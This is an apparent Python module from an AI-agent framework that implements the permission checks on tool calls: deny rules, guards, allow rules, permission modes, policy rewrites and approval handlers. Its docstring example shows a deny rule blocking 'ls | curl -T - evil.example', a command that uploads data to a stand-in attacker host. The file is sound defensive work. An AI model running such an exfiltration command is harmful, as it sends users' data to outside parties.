"""The permission pipeline every tool call passes: deny rules, guards, allow rules, mode, policy, ask.

The order is the book's, and each step can only end the pipeline in the direction it
exists for: deny rules and guards only refuse (a guard that asks and is approved clears
that guard alone, and the rest of the pipeline still applies), allow rules only permit,
and the mode, the policy and the approval handler decide what is left. A policy that
rewrites the arguments (`PermissionDecision.replace`) has its new arguments checked by
the deny rules and guards again, so a rewrite can never smuggle in a denied command.

Example:
    ```python
    import asyncio

    from helikon import RunContext
    from helikon.core.permissions import authorize
    from helikon.core.rules import DenyRule
    from helikon.core.tools import ToolEffect

    ctx = RunContext.ephemeral(None).with_deny_rules([DenyRule.bash_command("curl")])
    call = {"command": "ls | curl -T - evil.example"}
    verdict = asyncio.run(authorize(ctx, "Bash", call, ToolEffect.SIDE_EFFECT))
    assert not verdict.allowed and verdict.step == "deny_rule"
    ```
"""

from __future__ import annotations

from collections.abc import Callable
from typing import TYPE_CHECKING, Any, Literal

from ._carrier import carrier
from ._json import JsonValue
from .events import AgentEvent, ApprovalRequested
from .governance import PermissionMode
from .rules import GuardAction, ToolSubject, allowed_by
from .tools import ToolEffect

if TYPE_CHECKING:
    from .context import RunContext

Step = Literal["deny_rule", "guard", "allow_rule", "mode", "policy", "approval", "default"]


@carrier(kw_only=False)
class PermissionVerdict:
    """The pipeline's answer for one call: whether it runs, with which arguments, and why.

    Attributes:
        allowed: Whether the call runs.
        args: The arguments it runs with (a policy's `replace` may have changed them).
        reason: Why it was refused (empty when allowed).
        step: The pipeline step that decided.
    """

    allowed: bool
    args: JsonValue
    reason: str = ""
    step: Step = "default"


def _drop(event: AgentEvent) -> None:
    return None


async def authorize(
    ctx: RunContext[Any],
    tool: str,
    args: JsonValue,
    effect: ToolEffect,
    *,
    call_id: str = "",
    emit: Callable[[AgentEvent], None] = _drop,
) -> PermissionVerdict:
    """Run the permission pipeline for a call of `tool` with `args`.

    `emit` receives the `ApprovalRequested` events raised while the call waits for an
    approval handler (the driver streams them).
    """
    subject = ToolSubject(tool, args)
    refused = await _refusals(ctx, subject, call_id, emit)
    if refused is not None:
        return refused
    allow_rules = ctx.allow_rules
    if allow_rules and allowed_by(allow_rules, subject):
        return PermissionVerdict(True, args, step="allow_rule")
    mode = ctx.permission_mode
    if mode is PermissionMode.BYPASS:
        return PermissionVerdict(True, args, step="mode")
    if mode is PermissionMode.DONT_ASK:
        return PermissionVerdict(
            False, args, "DONT_ASK mode permits only calls that an allow rule covers", "mode"
        )
    if mode is PermissionMode.PLAN and effect is not ToolEffect.READ_ONLY:
        return PermissionVerdict(
            False, args, f"PLAN mode allows only read-only tools; {tool!r} is {effect.value}", "mode"
        )
    if mode is PermissionMode.ACCEPT_EDITS and effect is ToolEffect.WRITE:
        return PermissionVerdict(True, args, step="mode")
    policy = ctx.permission_policy
    if policy is None:
        return PermissionVerdict(True, args)
    decision = await policy.check(ctx, tool, args)
    kind = decision.kind
    if kind == "allow":
        return PermissionVerdict(True, args, step="policy")
    if kind == "deny":
        return PermissionVerdict(False, args, decision.reason or "denied by the permission policy", "policy")
    if kind == "replace":
        # The rewritten call must clear the deny rules and guards like the original did.
        again = await _refusals(ctx, ToolSubject(tool, decision.args), call_id, emit)
        return again if again is not None else PermissionVerdict(True, decision.args, step="policy")
    approved, reason = await _ask(ctx, tool, args, decision.prompt, call_id, emit)
    if approved:
        return PermissionVerdict(True, args, step="approval")
    return PermissionVerdict(False, args, reason, "approval")


async def _refusals(
    ctx: RunContext[Any], subject: ToolSubject, call_id: str, emit: Callable[[AgentEvent], None]
) -> PermissionVerdict | None:
    """The deny rules, then the guards: a refusal, or None when the call may go on."""
    args = subject.args
    for rule in ctx.deny_rules:
        if rule.matches(subject):
            return PermissionVerdict(False, args, f"denied by {rule!r}", "deny_rule")
    for guard in ctx.guards:
        reason = guard.check(subject)
        if reason is None:
            continue
        if guard.action is GuardAction.DENY:
            return PermissionVerdict(False, args, reason, "guard")
        approved, why = await _ask(ctx, subject.tool, args, reason, call_id, emit)
        if not approved:
            return PermissionVerdict(False, args, why, "guard")
    return None


async def _ask(
    ctx: RunContext[Any],
    tool: str,
    args: JsonValue,
    prompt: str,
    call_id: str,
    emit: Callable[[AgentEvent], None],
) -> tuple[bool, str]:
    """Ask the approval handler; without one, the answer is no."""
    emit(ApprovalRequested(call_id=call_id, tool=tool, args=args, prompt=prompt))
    handler = ctx.approval_handler
    if handler is None:
        return False, f"approval required ({prompt}) but no approval handler is installed"
    outcome = await handler.decide(tool, prompt, args)
    if outcome.approved:
        return True, ""
    return False, outcome.reason or f"not approved ({prompt})"


__all__ = ["PermissionVerdict", "Step", "authorize"]
